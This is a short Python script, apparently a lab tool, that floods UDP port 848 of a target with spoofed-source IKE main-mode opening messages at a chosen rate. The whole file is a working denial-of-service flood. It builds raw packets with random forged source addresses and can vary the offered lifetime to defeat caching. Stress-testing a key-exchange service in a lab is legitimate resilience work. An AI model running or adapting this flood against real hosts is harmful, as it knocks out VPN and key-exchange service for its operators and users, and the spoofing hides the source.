#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""flood.py TARGET SECONDS RATE same|vary: first messages of main mode to UDP
848 of TARGET from random addresses. same: one offer; vary: another lifetime
in each. Prints how many were sent."""
import random
import socket
import struct
import sys
import time


def attr(kind, value):
    return struct.pack("!HH", 0x8000 | kind, value)


def offer(lifetime):
    body = (attr(1, 7) + attr(2, 2) + attr(3, 1) + attr(4, 14) + attr(14, 128)
            + attr(11, 1) + struct.pack("!HHI", 12, 4, lifetime))
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(body), 1, 1, 0) + body
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0,
                           1) + transform
    sa = struct.pack("!II", 1, 1) + proposal
    return struct.pack("!BBH", 0, 0, 4 + len(sa)) + sa


def packet(source, target, lifetime):
    sa = offer(lifetime)
    ike = (random.randbytes(8) + bytes(8) + bytes([1, 0x10, 2, 0]) + bytes(4)
           + struct.pack("!I", 28 + len(sa)) + sa)
    udp = struct.pack("!HHHH", 848, 848, 8 + len(ike), 0) + ike
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17,
                       0, source, target) + udp


def main():
    target = socket.inet_aton(sys.argv[1])
    seconds, rate = float(sys.argv[2]), int(sys.argv[3])
    vary = sys.argv[4] == "vary"
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    sent = 0
    while (now := time.monotonic() - start) < seconds:
        due = int(now * rate) - sent
        if due <= 0:
            time.sleep(0.0005)
            continue
        for _ in range(min(due, 200)):
            # 11.0.0.0/8: nobody of the lab
            source = bytes([11]) + random.randbytes(3)
            data = packet(source, target,
                          random.randrange(70000, 1 << 31) if vary else 86400)
            try:
                out.sendto(data, (sys.argv[1], 0))
            except OSError:  # no buffer: it is a flood
                pass
            sent += 1
    print(sent)


main()
